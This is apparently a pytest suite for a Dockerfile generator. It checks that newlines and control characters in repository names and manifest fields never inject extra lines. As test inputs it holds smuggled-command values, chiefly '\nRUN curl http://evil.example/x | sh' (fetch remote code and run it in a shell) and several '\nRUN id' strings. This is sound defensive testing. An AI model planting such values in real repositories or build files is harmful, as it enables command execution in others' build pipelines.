"""Generated Dockerfiles never carry a newline or control character from repository content.

Repository layouts with hostile names and values (a directory named with a newline, package.json
fields holding "\\nRUN ...", a Cargo binary name ending in a newline...) go through the generator;
each is either refused with a user error or generates text whose every line is clean. The
writer refuses such lines itself, as a last line of defence. Nothing is built or executed.
"""

import json
import os
import re

import pytest

from builds import errors
from builds.dockerfile import plan_build
from builds.dockerfile.writer import Cache, Dockerfile
from builds.errors import UserError

INJECTED = "\nRUN curl http://evil.example/x | sh"
NAME_INJECTED = "\nRUN curl evil.example"  # no "/": it goes into file and directory names
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")  # besides the newlines between lines


def write(root, files: dict) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(content) if isinstance(content, dict) else content)


def assert_clean(dockerfile: str) -> None:
    assert not CONTROL.search(dockerfile)
    assert "evil.example" not in dockerfile
    for line in dockerfile.split("\n"):
        assert not line.endswith("\\"), line


def generate_or_refuse(app_dir, repo_root, config: dict | None = None) -> UserError | None:
    """None when the generated text is clean; the UserError when the layout is refused."""
    try:
        plan = plan_build(app_dir, {"isAutoBuild": True, **(config or {})}, repo_root=repo_root)
    except UserError as exc:
        return exc
    assert_clean(plan.dockerfile)
    return None


# --- Directory names -------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["we\nb", "web" + NAME_INJECTED, "we\rb", "web\\", "we\x01b", "web$HOME", "a,b"])
def test_workspace_directory_with_a_hostile_name_is_refused(tmp_path, name):
    """The app of a monorepo workspace becomes WORKDIR and cache-mount paths; workingDir names
    a symlink (the API refuses control characters in workingDir), the real directory is hostile."""
    write(tmp_path, {"package.json": {"private": True, "workspaces": ["packages/*"]}, "package-lock.json": "{}",
                     f"packages/{name}/package.json": {"scripts": {"start": "node server.js"}},
                     f"packages/{name}/server.js": ""})
    os.symlink(name, tmp_path / "packages" / "web")
    error = generate_or_refuse(tmp_path / "packages" / "web", tmp_path)
    assert error is not None and error.code == errors.WORKING_DIR_INVALID, error


def test_workspace_directory_with_an_ordinary_name_still_generates(tmp_path):
    write(tmp_path, {"package.json": {"private": True, "workspaces": ["packages/*"]}, "package-lock.json": "{}",
                     "packages/@scope+web.v2/package.json": {"scripts": {"start": "node server.js"}},
                     "packages/@scope+web.v2/server.js": ""})
    plan = plan_build(tmp_path / "packages" / "@scope+web.v2", {"isAutoBuild": True}, repo_root=tmp_path)
    assert "WORKDIR /app/packages/@scope+web.v2" in plan.dockerfile


def test_go_main_package_in_a_directory_named_with_a_newline_is_refused(tmp_path):
    write(tmp_path, {"go.mod": "module x\n\ngo 1.22\n", f"cmd/server{NAME_INJECTED}/main.go": "package main\nfunc main() {}\n"})
    error = generate_or_refuse(tmp_path, tmp_path)
    assert error is not None and error.code == errors.COMMAND_NOT_ALLOWED


def test_python_package_named_with_a_newline_is_not_started(tmp_path):
    write(tmp_path, {"requirements.txt": "flask\n", f"app{NAME_INJECTED}/__main__.py": "print(1)\n"})
    error = generate_or_refuse(tmp_path, tmp_path)
    assert error is None or error.code == errors.NOTHING_TO_BUILD


# --- Values read from files ------------------------------------------------------------------------

@pytest.mark.parametrize("package", [
    {"name": f"app{INJECTED}", "scripts": {"start": "node server.js"}},
    {"name": "app", "main": f"server.js{NAME_INJECTED}"},
    {"name": "app", "main": "server.js\n"},
    {"name": "app", "scripts": {f"build:x{INJECTED}": "tsc", "start": "node server.js"}},
    {"name": "app", "scripts": {"start": f"node server.js{INJECTED}"}},
    {"name": "app", "engines": {"node": f"22{INJECTED}"}, "scripts": {"start": "node server.js"}},
    {"name": "app", "packageManager": f"pnpm@9{INJECTED}", "scripts": {"start": "node server.js"}},
])
def test_package_json_values_never_reach_the_text(tmp_path, package):
    write(tmp_path, {"package.json": package, "server.js": "", f"server.js{NAME_INJECTED}": ""})
    error = generate_or_refuse(tmp_path, tmp_path)
    assert error is None or not error.retryable


def test_vite_output_directory_with_a_newline_is_not_used(tmp_path):
    write(tmp_path, {"package.json": {"scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}},
                     "package-lock.json": "{}", "index.html": "",
                     "vite.config.js": "export default { build: { outDir: 'dist\\nRUN id' } }\n".replace("\\n", "\n")})
    assert generate_or_refuse(tmp_path, tmp_path) is None


def test_version_files_with_a_newline_never_reach_the_text(tmp_path):
    write(tmp_path, {".nvmrc": f"22{INJECTED}", "package.json": {"scripts": {"start": "node server.js"}},
                     "server.js": ""})
    assert generate_or_refuse(tmp_path, tmp_path) is None


def test_cargo_binary_name_ending_in_a_newline_is_refused(tmp_path):
    """A regex anchored with `$` accepts "svc\\n": the name would end a `cp` line early."""
    write(tmp_path, {"Cargo.toml": '[package]\nname = "svc\\n"\n', "Cargo.lock": "", "src/main.rs": ""})
    error = generate_or_refuse(tmp_path, tmp_path)
    assert error is not None and error.code == errors.NOTHING_TO_BUILD and "binary name" in error.message


def test_cargo_binary_named_with_a_command_is_refused(tmp_path):
    write(tmp_path, {"Cargo.toml": '[package]\nname = "svc"\n[[bin]]\nname = "svc\\nRUN id"\n', "src/main.rs": ""})
    error = generate_or_refuse(tmp_path, tmp_path)
    assert error is not None and error.code == errors.NOTHING_TO_BUILD


def test_dotnet_assembly_name_with_a_control_character_is_refused(tmp_path):
    write(tmp_path, {"Api.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><TargetFramework>net8.0</TargetFramework>'
                                   "<AssemblyName>Api\x01x</AssemblyName></Project>"})
    error = generate_or_refuse(tmp_path, tmp_path)
    assert error is not None and error.code == errors.NOTHING_TO_BUILD


# --- The writer's own refusal ----------------------------------------------------------------------

@pytest.mark.parametrize("write_line", [
    lambda df: df.workdir("/app/x\nRUN id"),
    lambda df: df.run("echo hi\rRUN id"),
    lambda df: df.run("echo hi", [Cache("npm", "/root/.npm\nRUN id")]),
    lambda df: df.copy(["package.json\x00"], "./"),
    lambda df: df.raw("USER app\u2028RUN id"),
    lambda df: df.comment("note\x85RUN id"),
    lambda df: df.file("/etc/x.conf", "key value\x0b\n"),
    lambda df: df.workdir("/app/x\\"),
    lambda df: df.stage("debian:bookworm-slim\tAS x"),
])
def test_writer_refuses_a_line_with_a_control_character_or_a_trailing_backslash(write_line):
    df = Dockerfile().stage("debian:bookworm-slim")
    with pytest.raises(UserError) as caught:
        write_line(df)
    assert caught.value.code == errors.DOCKERFILE_INVALID


def test_writer_quotes_values_and_start_commands_instead_of_refusing_them():
    df = Dockerfile().stage("debian:bookworm-slim").env(NOTE="a\nb").start("node server.js\n")
    assert df.text().count("\n") == 3 and '"a\\nb"' in df.text()
